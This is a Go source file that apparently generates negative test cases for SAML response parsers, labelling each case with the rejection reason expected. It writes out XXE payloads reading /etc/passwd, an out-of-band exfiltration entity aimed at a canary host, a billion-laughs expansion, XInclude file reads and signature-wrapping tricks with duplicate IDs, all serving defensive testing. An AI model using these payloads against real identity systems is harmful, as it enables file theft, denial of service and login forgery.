package main

import (
	"strings"

	"github.com/beevik/etree"
)

// parsers is XML that two readers would see differently, that makes a reader fetch something, or that is large.
func (g *generator) parsers() {
	g.differential()
	g.sizes()
}

func (g *generator) differential() {
	const entities = "XXE, entities, DTD"
	const class = "parser differential"
	raw := func(class, name, about, reasons string, f func(m *message, s string) string, only ...string) {
		g.bad(class, name, about, reasons, func(m *message) { m.raw = func(s string) string { return f(m, s) } }, only...)
	}
	before := func(text string) func(*message, string) string {
		return func(_ *message, s string) string { return text + s }
	}
	replace := func(old, new string) func(*message, string) string {
		return func(_ *message, s string) string { return strings.Replace(s, old, new, 1) }
	}
	raw(entities, "doctype", "A DOCTYPE", "response_unsafe", before("<!DOCTYPE x>"))
	raw(entities, "doctype-external", "An external subset", "response_unsafe", before(`<!DOCTYPE x SYSTEM "https://canary.example/dtd">`))
	raw(entities, "doctype-entity-file", "An entity that reads a file", "response_unsafe response_malformed", func(_ *message, s string) string {
		return `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + strings.Replace(s, ">Ana<", ">&e;<", 1)
	})
	raw(entities, "doctype-entity-http", "An entity that fetches", "response_unsafe response_malformed", func(_ *message, s string) string {
		return `<!DOCTYPE x [<!ENTITY e SYSTEM "https://canary.example/e">]>` + strings.Replace(s, ">Ana<", ">&e;<", 1)
	})
	raw(entities, "doctype-parameter-entity", "A parameter entity", "response_unsafe response_malformed", before(`<!DOCTYPE x [<!ENTITY % e SYSTEM "https://canary.example/p"> %e;]>`))
	raw(entities, "doctype-billion-laughs", "Entities of entities", "response_unsafe response_malformed", func(_ *message, s string) string {
		return `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>` +
			strings.Replace(s, ">Ana<", ">&d;<", 1)
	})
	raw(entities, "doctype-attlist-id", "An attribute list that makes another attribute an ID", "response_unsafe", before(`<!DOCTYPE x [<!ATTLIST samlp:Response Destination ID #IMPLIED>]>`))
	raw(entities, "entity-undefined", "An entity nobody defined", "response_malformed", replace(">Ana<", ">&e;<"))
	xinclude := func(href string) string {
		return `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="` + href + `" parse="text"/>`
	}
	raw(entities, "entity-xinclude", "An XInclude of a file", "signature_invalid", replace("</samlp:Status>", "</samlp:Status>"+xinclude("file:///etc/passwd")), responseSigned, bothSigned)
	raw(entities, "entity-xinclude-http", "An XInclude inside the assertion", "signature_invalid", replace("<Subject>", xinclude("https://canary.example/xi")+"<Subject>"))
	g.bad(entities, "entity-xinclude-in-address", "An XInclude as the address, signed so", "email_invalid", func(m *message) {
		m.attributes = claim("email", xinclude("https://canary.example/address"))
	})
	raw(entities, "doctype-parameter-entity-internal", "A parameter entity that makes another", "response_unsafe response_malformed",
		before(`<!DOCTYPE x [<!ENTITY % a '<!ENTITY e "x">'> %a;]>`))
	raw(entities, "doctype-exfiltration", "A parameter entity that sends a file away", "response_unsafe response_malformed",
		before(`<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "https://canary.example/d.dtd">%d;]>`))
	raw(entities, "doctype-lower-case", "A DOCTYPE in small letters", "response_unsafe response_malformed", before("<!doctype x>"))
	raw(entities, "doctype-after-root", "A DOCTYPE after the root", "response_unsafe response_malformed", func(_ *message, s string) string {
		return s + `<!DOCTYPE x SYSTEM "https://canary.example/after">`
	})
	raw(entities, "doctype-inside", "A DOCTYPE inside", "response_unsafe response_malformed", replace("<Subject>", `<!DOCTYPE x SYSTEM "https://canary.example/inside"><Subject>`))
	raw(entities, "entity-in-attribute", "An entity in an attribute", "response_malformed", replace(`InResponseTo="`, `InResponseTo="&e;`))
	raw(entities, "entity-character-too-large", "A reference to a character there is not", "response_malformed", replace(">Ana<", ">&#x110000;<"))
	raw(entities, "entity-surrogate", "A reference to half a character", "signature_invalid response_malformed response_unsafe", replace(">Ana<", ">&#xd800;<"))

	raw(class, "pi-stylesheet", "A stylesheet instruction", "response_unsafe", before(`<?xml-stylesheet href="https://canary.example/x.xsl"?>`))
	raw(class, "pi-inside", "A processing instruction inside", "response_unsafe", replace("<Subject>", "<?x y?><Subject>"))
	raw(class, "pi-in-nameid", "A processing instruction in the NameID", "response_unsafe", func(m *message, s string) string {
		return strings.Replace(s, ">"+m.nameID+"<", ">"+m.nameID+"<?x?>.evil.example<", 1)
	})
	raw(class, "second-root", "A second root", "response_unsafe response_malformed", func(_ *message, s string) string { return s + "<x/>" })
	raw(class, "second-root-response", "The response twice", "response_unsafe response_malformed", func(_ *message, s string) string { return s + s })
	raw(class, "text-before", "Text before the root", "response_unsafe response_malformed", before("x"))
	raw(class, "text-after", "Text after the root", "response_unsafe response_malformed", func(_ *message, s string) string { return s + "x" })
	raw(class, "nul", "A NUL", "response_malformed response_unsafe", replace(">Ana<", ">A\x00na<"))
	raw(class, "dup-attribute", "An attribute twice", "response_unsafe response_malformed", replace(`Version="2.0"`, `Version="2.0" Version="2.0"`))
	raw(class, "dup-attribute-namespaced", "An attribute twice under two prefixes", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject xmlns:a="urn:x" xmlns:b="urn:x" a:k="1" b:k="2">`))
	raw(class, "dup-attribute-inresponseto", "InResponseTo twice", "response_unsafe response_malformed", replace(`InResponseTo=`, `InResponseTo="id-other" InResponseTo=`))
	raw(class, "dup-xmlns", "A namespace declared twice", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject xmlns:a="urn:x" xmlns:a="urn:y">`))
	raw(class, "ns-undeclared", "A prefix nobody declared", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject q:k="1">`))
	raw(class, "ns-undeclare-prefix", "A prefix declared away", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject xmlns:a="">`))
	raw(class, "ns-xml", "The prefix xml for another namespace", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject xmlns:xml="urn:x">`))
	raw(class, "ns-undeclare-default", "The default namespace taken from the subject after signing", "signature_invalid", replace(`<Subject>`, `<Subject xmlns="">`))
	g.bad(class, "ns-undeclare-default-signed", "A subject in no namespace, signed so", "response_incomplete", attribute("Subject", "xmlns", ""))
	g.bad(class, "ns-id-prefixed", "An assertion whose ID is in the namespace of assertions", "signature_malformed response_incomplete", edited(func(doc *etree.Document) {
		a := assertion(doc)
		id := a.RemoveAttr("ID").Value
		a.CreateAttr("xmlns:saml", nsA)
		a.CreateAttr("saml:ID", id)
	}))
	raw(class, "ns-id-prefixed-twin", "The assertion's ID again in another namespace, on the response", "response_unsafe", func(m *message, s string) string {
		return strings.Replace(s, "<samlp:Response ", `<samlp:Response samlp:ID="`+m.assertionID()+`" `, 1)
	})
	raw(class, "dup-id", "Two IDs on the assertion, the genuine one second", "response_unsafe response_malformed", replace(`<Assertion ID=`, `<Assertion ID="_forged" ID=`))
	raw(class, "dup-id-after", "Two IDs on the assertion, the genuine one first", "response_unsafe response_malformed", func(m *message, s string) string {
		return strings.Replace(s, `ID="`+m.assertionID()+`"`, `ID="`+m.assertionID()+`" ID="_forged"`, 1)
	})
	raw(class, "id-case", "The genuine ID as Id, another one as ID", "signature_malformed signature_invalid", replace(`<Assertion ID=`, `<Assertion ID="_forged" Id=`))
	raw(class, "id-lower-case", "The genuine ID in small letters as well as another one", "response_unsafe signature_malformed signature_invalid", replace(`<Assertion ID=`, `<Assertion ID="_forged" id=`))
	raw(class, "ns-rebind", "A prefix rebound after signing", "signature_invalid", func(_ *message, s string) string {
		return strings.Replace(s, `<Subject>`, `<Subject xmlns="urn:other">`, 1)
	})
	raw(class, "extensions-added", "Extensions that rebind the assertion's prefix, added to a signed response", "signature_invalid",
		replace("<samlp:Status>", `<samlp:Extensions><x><y xmlns:saml="urn:evil"><saml:z/></y></x></samlp:Extensions><samlp:Status>`), responseSigned, bothSigned)
	raw(class, "destination-changed", "A Destination changed after signing", "signature_invalid", replace(`Destination="`+acs, `Destination="https://other.example/acs`), responseSigned, bothSigned)
	raw(class, "status-changed", "An attribute added to the status after signing", "signature_invalid", replace(`status:Success"`, `status:Success" x=""`), responseSigned, bothSigned)
	raw(class, "ns-colons", "A name with two colons", "response_unsafe response_malformed", replace(`<Subject>`, `<Subject a:b:c="1">`))
	raw(class, "directive-roundtrip", "A directive that changes when written again", "response_unsafe response_malformed", replace(`<Subject>`, `<!x "<!--">"><Subject>`))
	raw(class, "comment-unclosed", "A comment that does not end", "response_malformed", func(_ *message, s string) string { return s + "<!-- x" })
	raw(class, "cdata-in-address", "CDATA that makes two texts of one, after signing with another text", "signature_invalid", func(m *message, s string) string {
		return strings.Replace(s, "<AttributeValue>"+m.email, "<AttributeValue><![CDATA[victim@acme.example]]>", 1)
	})
	raw(class, "encoding-latin1", "Declared Latin-1", "response_unsafe response_malformed", before(`<?xml version="1.0" encoding="ISO-8859-1"?>`))
	raw(class, "encoding-utf7", "Declared UTF-7", "response_unsafe response_malformed", before(`<?xml version="1.0" encoding="UTF-7"?>`))
	raw(class, "encoding-utf16-declared", "Declared UTF-16", "response_unsafe response_malformed", before(`<?xml version="1.0" encoding="UTF-16"?>`))
	raw(class, "encoding-bytes", "A byte that is not UTF-8", "response_unsafe", replace(">Ana<", ">An\xe1<"))
	raw(class, "encoding-overlong", "An overlong <", "response_unsafe", replace(">Ana<", ">\xc0\xbcx\xc0\xbe<"))
	raw(class, "xml-1.1", "XML 1.1", "response_unsafe response_malformed", before(`<?xml version="1.1"?>`))
	raw(class, "truncated", "Cut off", "response_malformed", func(_ *message, s string) string { return s[:len(s)/2] })
	// Neither has a signature, so the mode says nothing.
	raw(class, "not-xml", "No XML", "response_unsafe response_malformed", func(*message, string) string { return "hello" }, assertionSigned)
	raw(class, "html", "An error page", "not_a_response response_unsafe response_malformed", func(*message, string) string {
		return "<html><body>Sign in</body></html>"
	}, assertionSigned)
	g.bad(class, "assertion-alone", "A signed assertion without response", "not_a_response", func(m *message) {
		m.after = func(doc *etree.Document) { doc.SetRoot(standalone(assertion(doc))) }
	})
	g.bad(class, "logout-response", "A LogoutResponse of our request, signed or not", "not_a_response", edited(func(doc *etree.Document) {
		remove(assertion(doc))
		doc.Root().Tag = "LogoutResponse"
	}), assertionSigned, responseSigned)
	g.bad(class, "response-wrong-namespace", "A Response of SAML 1.1, signed so", "not_a_response", edited(func(doc *etree.Document) {
		doc.Root().CreateAttr("xmlns:samlp", "urn:oasis:names:tc:SAML:1.0:protocol")
	}))
	g.bad(class, "response-no-namespace", "A Response in no namespace, signed so", "not_a_response", edited(func(doc *etree.Document) {
		doc.Root().Space = ""
	}))
	g.bad(class, "schema-location-other", "Schema addresses that nobody fetches, in a response for another audience", "audience_mismatch", func(m *message) {
		m.audience = "https://other.example"
		m.before = schemaLocation
	})
}

// schemaLocation names documents that a validating parser would fetch.
func schemaLocation(doc *etree.Document) {
	for _, el := range []*etree.Element{doc.Root(), assertion(doc)} {
		el.CreateAttr("xmlns:xsi", "http://www.w3.org/2001/XMLSchema-instance")
		el.CreateAttr("xsi:schemaLocation", nsP+" https://canary.example/schema-"+el.Tag+".xsd")
		el.CreateAttr("xsi:noNamespaceSchemaLocation", "https://canary.example/none-"+el.Tag+".xsd")
	}
}
